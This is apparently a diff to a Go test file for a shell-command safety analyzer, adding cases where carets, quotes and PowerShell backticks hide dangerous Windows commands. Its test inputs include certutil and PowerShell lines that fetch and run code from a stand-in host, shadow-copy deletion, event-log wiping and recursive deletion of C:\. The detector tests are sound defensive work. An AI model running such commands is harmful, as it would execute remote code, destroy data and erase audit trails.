@@ -37,6 +37,14 @@ func TestAnalyzeSpelledNames(t *testing.T) {
 		{`v^ss^admin delete shadows /all /quiet`, IDDeleteBackups},
 		{`v"s"sadmin delete shadows /all /quiet`, IDDeleteBackups},
 		{`cmd /c "c^ertutil -urlcache -split -f https://x.io/a.exe a.exe"`, IDDownloadLolbin},
+		// carets, quotes and PowerShell backticks inside any word
+		{`certutil -url^cache -split -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
+		{`vssadmin "delete" shadows /all /quiet`, IDDeleteBackups},
+		{"iwr https://x.io/a.ps1 | i`e`x", IDPipeShell},
+		{"I`EX (New-Object Net.WebClient).DownloadString('https://x.io/a.ps1')", IDPipeShell},
+		{"Remove-It`em -Recurse -Force C:\\", IDWinRmRecursive},
+		{"Clear-Event`Log -LogName Security", IDLogWipe},
+		{`echo "it's ^fine"`, ""},
 		// a glob for a name runs whatever it matches
 		{"/bin/r? -rf /", IDRmRoot},
 		{"/usr/bin/su?o /bin/r* -rf ~", IDRmHome},
@@ -173,6 +181,27 @@ func TestAnalyzeUnknownWrappers(t *testing.T) {
 				return
 			}
 			assert.Contains(t, ids(fs), tt.want)
+		})
+	}
+}
+
+func TestWinPlain(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{"certutil -url^cache x", "certutil -urlcache x"},
+		{"i`ex (x)", "iex (x)"},
+		{`c\ertutil "a b"`, "certutil a b"},
+		{"write-host `1 'x'", "write-host `1 x"}, // a backtick before a letter only
+		{"ls -la", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.in, func(t *testing.T) {
+			t.Parallel()
+			got, ok := winPlain(tt.in)
+			assert.Equal(t, tt.want != "", ok)
+			if ok {
+				assert.Equal(t, tt.want, got)
+			}
 		})
 	}
 }
